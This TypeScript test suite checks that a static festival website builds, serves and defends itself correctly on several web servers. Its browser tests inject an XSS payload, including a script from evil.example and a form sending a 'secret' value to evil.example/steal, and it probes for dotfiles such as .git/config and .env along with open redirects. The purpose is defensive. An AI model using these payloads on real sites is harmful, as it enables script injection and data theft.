import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { pages } from '../../content/schema/pages';
import { examine, pathsOf } from '../../static/hosting/doctor';
import { hostChecks } from '../../static/hosting/hostChecks';
import { visitorsFiles } from '../../static/hosting/knownFiles';
import { sendRequest } from '../../static/hosting/liveSite';
import { readSiteFiles } from '../../static/publish/manifest';
import { mustBuild } from '../helpers/building';
import { connectBrowser } from '../helpers/connectBrowser';
import { aifest } from '../helpers/events';
import { festPageNames } from '../helpers/fest';
import { jpeg2000 } from '../helpers/pdfs';
import { scratch } from '../helpers/scratch';
import { some } from '../helpers/soak';
import { startApache } from '../servers/apache';
import { browse, infect, readThrough } from '../servers/browse';
import { type Host, hosts } from '../servers/hosts';
import { startNginx } from '../servers/nginx';
import { servable } from '../servers/site';
import type { Server } from '../servers/start';

const { root, remove } = servable(inject('site'));
afterAll(remove);
const paths = await pathsOf(aifest.content);

test('every packed copy is its file when it is unpacked, and smaller; PDFs, fonts and photos have none', () => {
  const entries = readdirSync(root, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  const files = entries.map((entry) => join(entry.parentPath, entry.name));
  const twins = files.filter((file) => /\.(br|gz)$/.test(file));
  for (const file of twins) {
    const data = readFileSync(file);
    const whole = readFileSync(file.slice(0, -3));
    expect((file.endsWith('.br') ? brotliDecompressSync : gunzipSync)(data).equals(whole), file).toBe(true);
    expect(data.length, file).toBeLessThan(whole.length);
  }
  const kinds = new Set(twins.map((file) => file.split('.').at(-2)));
  expect([...kinds].sort()).toEqual(['html', 'ics', 'js', 'json', 'svg', 'txt', 'webmanifest', 'xml']);
});

test('the files for Netlify and Cloudflare Pages keep within what these read', () => {
  const read = (name: string) =>
    readFileSync(join(root, '.hosting/shcaifest/root', name), 'utf8')
      .trim()
      .split('\n');
  const lines = read('_headers');
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(2000);
  const rules = lines.filter((line) => line.startsWith('/'));
  expect(rules.length).toBeLessThan(100);
  expect(rules).toEqual([...new Set(rules)]);
  expect(rules).toEqual(expect.arrayContaining(festPageNames.map((name) => `/shcaifest${pages[name].path}`)));
  for (const line of read('_redirects').slice(1)) expect(line).toMatch(/^\/\S* \/shcaifest\/\S* 30[12]$/);
});

describe.concurrent('a host passes every check but those that it cannot', () => {
  const rows: Record<string, string[]> = {};

  for (const [name, host] of Object.entries(hosts))
    test(name, async () => {
      await using server = await started(host);
      const findings = await examine(`${server.origin}/shcaifest/`, paths);
      rows[name] = findings.map(({ failures }) => (failures.length ? '–' : 'yes'));
      // Where the pages are refused, nothing else can be right either.
      const refused = host.lacks.includes('pages');
      const broken = findings.filter(({ failures, critical }) => failures.length && (critical || !refused));
      const expected = Object.keys(hostChecks).filter((name) => host.lacks.includes(name));
      expect(
        broken.map(({ name }) => name),
        broken.flatMap(({ failures }) => failures).join('\n'),
      ).toEqual(expected);
    });

  afterAll(() => {
    const line = (cells: string[]) => `| ${cells.join(' | ')} |\n`;
    const names = ['host', ...Object.keys(hostChecks)];
    const table = Object.keys(hosts).map((name) => (rows[name] ? line([name, ...rows[name]]) : ''));
    process.stdout.write(`\n${line(names)}${line(names.map(() => '---'))}${table.join('')}\n`);
  });
});

describe.each(['Apache, FileInfo', 'nginx, nginx.conf', 'npm start'])('%s', (name) => {
  const host = hosts[name] as Host;
  let server: Server;
  beforeAll(async () => {
    server = await host.start(root);
  });
  afterAll(() => server?.close());
  const status = async (path: string) => (await sendRequest(`${server.origin}${path}`)).status;

  test('shows nothing that starts with a dot, however it is asked for', async () => {
    for (const path of ['.git/config', '.env', '.htaccess', '%2egit/config', 'About/..%2f.env', '.git', 'assets//.x'])
      expect(await status(`/shcaifest/${path}`), path).toBe(404);
  });

  test('sends every file as it was built, also those that no page names', async () => {
    const built = visitorsFiles((await readSiteFiles(join(root, 'shcaifest'))).files);
    expect(built.size).toBeGreaterThan(250);
    const findings = await examine(`${server.origin}/shcaifest/`, paths, { built });
    expect(findings.flatMap(({ critical, failures }) => (critical ? failures : []))).toEqual([]);
  });

  test('says Vary with the plain file as well, and once', async () => {
    for (const path of ['/shcaifest/', '/shcaifest/sitemap.xml'])
      for (const coding of ['', 'gzip', 'br'])
        expect((await sendRequest(server.origin + path, { 'accept-encoding': coding })).headers.vary).toBe(
          'Accept-Encoding',
        );
  });

  test('keeps every visitor on the host that was asked', async () => {
    for (const path of [
      '/shcaifest//evil.example/%2e%2e/About',
      '/shcaifest/About',
      '//evil.example/shcaifest/about',
    ]) {
      const { location = '' } = (await sendRequest(server.origin + path)).headers;
      expect(new URL(location, server.origin).origin, path).toBe(server.origin);
    }
  });

  test('remembers a redirect for an hour, and a missing file not at all', async () => {
    expect((await sendRequest(`${server.origin}/shcaifest/about`)).headers['cache-control']).toBe('max-age=3600');
    const gone = await sendRequest(`${server.origin}/shcaifest/assets/main-AAAAAAAA.js`);
    expect([gone.status, gone.headers['cache-control']]).toEqual([404, 'no-cache']);
  });
});

test('Apache that corrects spelling leaves what is not there to the Error page', async () => {
  await using server = await started(hosts['Apache, mod_speling'] as Host);
  for (const path of ['Abot/', 'About/indx.html', 'About/index', 'Agenda.html', 'schedul.json'])
    expect((await sendRequest(`${server.origin}/shcaifest/${path}`)).status, path).toBe(404);
});

test('Apache with lifetimes of its own says one with a redirect, not two', async () => {
  await using server = await started(hosts['Apache, own settings'] as Host);
  const { headers } = await sendRequest(`${server.origin}/shcaifest/about`);
  expect(headers['cache-control']).toBe('max-age=86400');
});

test('Apache behind a proxy that ends TLS stays with https', async () => {
  await using server = await started(hosts['Apache, FileInfo'] as Host);
  const { headers } = await sendRequest(`${server.origin}/shcaifest/about?a=1`, {
    'x-forwarded-proto': 'https',
    host: 'fest.example',
  });
  expect(headers.location).toBe('https://fest.example/shcaifest/About/?a=1');
});

describe.each(['Apache, FileInfo', 'nginx, nginx.conf', 'http-server'])('in a browser, on %s', (name) => {
  const host = hosts[name] as Host;
  let server: Server;
  let browser: Browser;
  beforeAll(async () => {
    server = await host.start(root);
    browser = await connectBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });
  const open = () => browse(browser, server.origin);
  const home = () => `${server.origin}/shcaifest/`;

  test('no page breaks its policy', async () => {
    const { page, violations, trouble } = await open();
    // The policy that stands in the page itself is at work in every other test too.
    for (const name of host.lacks.includes('policy') ? some(festPageNames, 1) : festPageNames) {
      const { path } = pages[name];
      await page.goto(server.origin + join('/shcaifest', path));
      await readThrough(page);
      expect({ violations, trouble }, path).toEqual({ violations: [], trouble: [] });
    }
    await page.context().close();
  });

  test('the worker unpacks JPEG 2000 with WebAssembly, under its own policy', async () => {
    const { page, violations, trouble } = await open();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url().split('/').at(-1) as string));
    await page
      .context()
      .route('**/*.pdf', (route) => route.fulfill({ contentType: 'application/pdf', body: jpeg2000() }));
    await page.goto(`${home()}HackathonRegistration/`);
    await readThrough(page);
    // The worker asks for it only when it comes to the picture.
    await expect.poll(() => asked).toContain('openjpeg.wasm');
    expect(asked).not.toContain('openjpeg_nowasm_fallback.js');
    expect({ violations, trouble }).toEqual({ violations: [], trouble: [] });
    await page.context().close();
  });

  test('what somebody gets into a page does nothing', async () => {
    const { page, violations, foreign } = await open();
    await infect(
      page,
      home(),
      `<script>hacked = 1</script><img src="data:," onerror="hacked = 2"><style>body { display: none }</style>
      <script src="https://evil.example/x.js"></script><iframe src="https://evil.example/frame"></iframe>
      <base href="https://evil.example/"><object data="https://evil.example/o"></object>
      <a id="attack" href="javascript:void(hacked = 3)">x</a>
      <form id="leak" action="https://evil.example/steal"><input name="a" value="secret"></form>`,
    );
    await page.goto(home());
    await page.locator('#attack').evaluate((link: HTMLElement) => link.click());
    await page.locator('#leak').evaluate((form: HTMLFormElement) => form.submit());
    const attacked = [
      'script-src-elem',
      'script-src-attr',
      'style-src-elem',
      'frame-src',
      'base-uri',
      'object-src',
      'form-action',
    ];
    await expect
      .poll(() => violations.map((violation) => violation.split(' ')[0]))
      .toEqual(expect.arrayContaining(attacked));
    expect(page.url()).toBe(home());
    expect(await page.evaluate('typeof hacked')).toBe('undefined');
    expect(await page.evaluate(() => [getComputedStyle(document.body).display !== 'none', document.baseURI])).toEqual([
      true,
      home(),
    ]);
    expect(foreign.filter((url) => url.includes('evil.example'))).toEqual([]);
    await page.context().close();
  });

  test('our own forms send nothing, even by script', async () => {
    const { page, violations } = await open();
    await page.goto(`${home()}Contact/`, { waitUntil: 'networkidle' });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page
      .locator('form')
      .first()
      .evaluate((form: HTMLFormElement) => {
        form.submit();
        // A dialog sends nothing and says nothing; what would send is refused aloud.
        form.method = 'post';
        form.submit();
      });
    await expect.poll(() => violations.join()).toContain('form-action');
    expect(page.url()).toBe(`${home()}Contact/`);
    expect(asked).toEqual([]);
    await page.context().close();
  });

  test('a string never becomes markup or script', async () => {
    const { page } = await open();
    await page.goto(home());
    const attempts: (() => unknown)[] = [
      () => Object.assign(document.body, { innerHTML: '<b>x</b>' }),
      () => Object.assign(document.createElement('script'), { src: '/shcaifest/assets/x.js' }),
      () => Object.assign(document.createElement('iframe'), { srcdoc: '<script>1</script>' }),
      () => new Worker('/shcaifest/assets/x.js'),
      () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    ];
    for (const attempt of attempts) await expect(page.evaluate(attempt), `${attempt}`).rejects.toThrow('Trusted');
    await page.context().close();
  });

  test(`another site ${host.lacks.includes('policy') ? 'may (there are no headers)' : 'may not'} frame a page`, async () => {
    const { page } = await open();
    await page.route(`${server.origin}/frame`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${home()}About/"></iframe>` }),
    );
    await page.goto(`${server.origin}/frame`);
    const shown = host.lacks.includes('policy') ? `${home()}About/` : 'chrome-error://chromewebdata/';
    await expect.poll(() => page.frames()[1]?.url()).toBe(shown);
    await page.context().close();
  });
});

describe('a site at the top of its host', () => {
  let own: ReturnType<typeof servable>;
  let out: string;
  beforeAll(async () => {
    const copy = scratch({ content: aifest.content }, afterAll);
    const text = readFileSync(join(copy, 'content/site.json'), 'utf8');
    writeFileSync(join(copy, 'content/site.json'), text.replace('"/shcaifest"', '"/", "https": "always"'));
    await mustBuild(['--content', join(copy, 'content'), '--out', join(copy, 'out')]);
    out = join(copy, 'out');
    own = servable(join(out, 'site'), '');
  });
  afterAll(() => own.remove());

  const kinds: Record<string, [Host, (root: string) => Promise<Server>]> = {
    Apache: [hosts['Apache, FileInfo'] as Host, startApache],
    nginx: [hosts['nginx, nginx.conf'] as Host, (root) => startNginx(root, join(out, '.hosting/site/nginx.conf'))],
  };
  for (const [name, [host, start]] of Object.entries(kinds))
    test(`passes every check on ${name}`, async () => {
      const server = await start(own.root);
      const wrong = (await examine(`${server.origin}/`, paths)).filter((finding) => finding.failures.length);
      expect(wrong.filter(({ name }) => !host.lacks.includes(name))).toEqual([]);
      expect((await sendRequest(`${server.origin}/.git/config`)).status).toBe(404);
      // What proves to others whose host this is must stay where they look for it.
      expect((await sendRequest(`${server.origin}/.well-known/proof`)).status).toBe(200);
      await server.close();
    });

  for (const [name, [, start]] of Object.entries(kinds))
    test(`leads to https at once on ${name}, and remembers it there`, async () => {
      const server = await start(own.root);
      const ask = async (path: string, headers: Record<string, string> = {}) => {
        const answer = await sendRequest(server.origin + path, { host: 'fest.example', ...headers });
        return [answer.status, answer.headers.location, answer.headers['strict-transport-security']];
      };
      expect(await ask('/about?from=poster')).toEqual([301, 'https://fest.example/About/?from=poster', undefined]);
      expect(await ask('/Agenda/')).toEqual([301, 'https://fest.example/Agenda/', undefined]);
      expect(await ask('/nothing')).toEqual([301, 'https://fest.example/nothing', undefined]);
      expect(await ask('/.well-known/proof')).toEqual([200, undefined, undefined]);
      const secure = { 'x-forwarded-proto': 'https' };
      expect(await ask('/Agenda/', secure)).toEqual([200, undefined, 'max-age=15552000']);
      expect(await ask('/nothing', secure)).toEqual([404, undefined, 'max-age=15552000']);
      await server.close();
    });
});

async function started(host: Host): Promise<Server & AsyncDisposable> {
  const server = await host.start(root);
  return { ...server, [Symbol.asyncDispose]: () => server.close() };
}
